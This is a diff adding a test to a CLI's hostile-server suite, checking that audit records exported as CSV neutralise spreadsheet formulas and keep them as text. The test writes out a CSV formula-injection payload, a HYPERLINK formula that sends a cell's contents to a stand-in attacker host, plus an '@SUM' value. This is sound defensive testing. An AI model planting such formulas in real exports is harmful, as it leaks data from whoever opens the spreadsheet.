@@ -130,5 +130,28 @@ describe('a hostile server (real child process)', function () {
         /description \(from the server, untrusted\): Deletes a file\.\\u001b\[2K\\r  risk: safe/,
       );
     });
+
+    it('exports audit records as CSV a spreadsheet shows as text, never as a formula', async () => {
+      const formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")';
+      const quiet = { out: () => undefined, err: () => undefined };
+      await runCli(['call', 'hostile', formula, '--config', config], quiet);
+      await runCli(['call', 'hostile', '@SUM(1+1)', '--config', config], quiet);
+      let csv = '';
+      const code = await runCli(['audit', 'export', '--format', 'csv', '--cwd', dir], {
+        ...quiet,
+        data: (chunk) => (csv += chunk),
+      });
+      assert.equal(code, 0);
+      const blocked = csv.split('\r\n').filter((line) => line.includes('TOOL_BLOCKED'));
+      assert.equal(blocked.length, 2, csv);
+      for (const line of blocked) {
+        const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
+        for (const cell of cells) {
+          const text = cell.replace(/,$/, '').replace(/^"|"$/g, '');
+          assert.doesNotMatch(text, /^[=+\-@\t\r]/, `a cell a spreadsheet would evaluate: ${text}`);
+        }
+      }
+      assert.ok(csv.includes(`'${formula.replace(/"/g, '""')}`), 'the name is kept, as text');
+    });
   });
 });
